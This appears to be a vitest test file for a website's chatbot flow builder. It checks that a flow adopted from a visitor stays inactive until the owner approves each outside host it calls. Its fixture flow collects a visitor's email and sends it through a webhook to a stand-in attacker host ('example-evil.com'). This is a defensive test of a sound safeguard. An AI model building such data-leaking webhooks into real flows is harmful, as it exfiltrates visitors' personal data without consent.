import { describe, expect, it } from 'vitest';
import type { LeadStory } from '#shared/api/admin-leads.ts';
import type { Flow } from '#shared/api/flows.ts';
import { browser } from './harness/browser.ts';
import { contactInput } from './harness/contact-input.ts';
import { createFlow } from './harness/flow-input.ts';
import { node } from './harness/flow-visitor.ts';
import { type TestSite, useTestSite } from './harness/test-site.ts';

const webhook = (id: string, url: string) => node(id, 'action', { action: 'send_webhook', config: { url } });

/** Collects an address and sends it to two foreign hosts. */
const sendsAway = {
  nodes: [
    node('start', 'start', { message: 'Hi' }),
    node('ask', 'action', { action: 'collect_email', config: {} }),
    webhook('first', 'https://Collect.Example-Evil.com/{{email}}?x=1'),
    node('then', 'api_call', { url: 'https://other.example-evil.com/', method: 'GET' }),
  ],
  connections: [
    { from: 'start', to: 'ask' },
    { from: 'ask', to: 'first' },
    { from: 'first', to: 'then' },
  ],
};
const hosts = ['collect.example-evil.com', 'other.example-evil.com'];

describe('flow adopted from a visitor', () => {
  const site = useTestSite({ env: { RATE_LIMITS: 'off' } });

  const adopted = async (admin: TestSite['api']): Promise<Flow> => {
    const ann = browser(site);
    const { id } = await createFlow(ann, { name: 'Bait', flowData: sendsAway });
    const sent = await ann('POST', '/api/contact', {
      json: contactInput({ email: 'bait@example.org', context: { flowId: id } }),
    });
    const lead = sent.json<{ id: string }>().id;
    const { story } = (await admin('GET', `/api/admin/leads/contacts/${lead}`)).json<LeadStory>();
    const answer = await admin('POST', `/api/admin/flow-snapshots/${story?.flowId}/adopt`, { json: {} });
    expect(answer.status, answer.text).toBe(201);
    return answer.json<Flow>();
  };
  const put = (call: TestSite['api'], id: string, json: Record<string, unknown>) =>
    call('PUT', `/api/flows/${id}`, { json });

  it('goes live only after its owner approved every host it calls [HTTP-049]', async () => {
    const admin = await site.admin();
    const flow = await adopted(admin);
    expect(flow.pendingHosts).toEqual(hosts);
    const refused = await put(admin, flow.id, { isActive: true });
    expect([refused.status, refused.json()]).toMatchObject([
      409,
      { code: 'flow.hosts', fields: { agreedHosts: hosts.join(', ') } },
    ]);
    const half = await put(admin, flow.id, { isActive: true, agreedHosts: hosts.slice(0, 1) });
    expect(half.json()).toMatchObject({ code: 'flow.hosts', fields: { agreedHosts: hosts[1] } });
    expect((await site.api('GET', `/api/flows/public/${flow.uuid}`)).status).toBe(404);
    const agreed = await put(admin, flow.id, { isActive: true, agreedHosts: hosts });
    expect(agreed.status, agreed.text).toBe(200);
    expect(agreed.json()).toMatchObject({ isActive: true });
    expect(agreed.json<Flow>().pendingHosts).toBeUndefined();
    expect((await site.api('GET', `/api/flows/public/${flow.uuid}`)).status).toBe(200);
  });

  it('needs approval only for hosts that its current content calls, and only once', async () => {
    const admin = await site.admin();
    const flow = await adopted(admin);
    const without = { nodes: sendsAway.nodes.slice(0, 2), connections: sendsAway.connections.slice(0, 1) };
    const saved = await put(admin, flow.id, { flowData: without });
    expect(saved.json<Flow>().pendingHosts).toEqual(hosts);
    expect((await put(admin, flow.id, { isActive: true })).status).toBe(200);
    // An older version that calls them still needs approval.
    await admin('POST', `/api/flows/${flow.id}/revisions/1/restore`, { json: {} });
    expect((await put(admin, flow.id, { isActive: true })).json()).toMatchObject({ code: 'flow.hosts' });
    const agreed = await put(admin, flow.id, { agreedHosts: hosts });
    expect(agreed.json<Flow>().pendingHosts).toBeUndefined();
    expect((await put(admin, flow.id, { isActive: true })).status).toBe(200);
  });

  it('still needs approval when it was imported or copied', async () => {
    const admin = await site.admin();
    const { id, pendingHosts } = await createFlow(admin, { flowData: sendsAway, pendingHosts: hosts });
    expect(pendingHosts).toEqual(hosts);
    expect((await put(admin, id, { isActive: true })).json()).toMatchObject({ code: 'flow.hosts' });
    const listed = (await admin('GET', '/api/flows')).json<Flow[]>().find((flow) => flow.id === id);
    expect(listed?.pendingHosts).toEqual(hosts);
  });

  it('needs no approval in a visitor’s workspace or for hosts the owner entered', async () => {
    const own = await createFlow(await site.admin(), { flowData: sendsAway });
    expect(own.pendingHosts).toBeUndefined();
    const ann = browser(site);
    const theirs = await createFlow(ann, { flowData: sendsAway, pendingHosts: hosts });
    expect(theirs.pendingHosts).toBeUndefined();
    expect((await put(ann, theirs.id, { isActive: true })).status).toBe(200);
  });
});
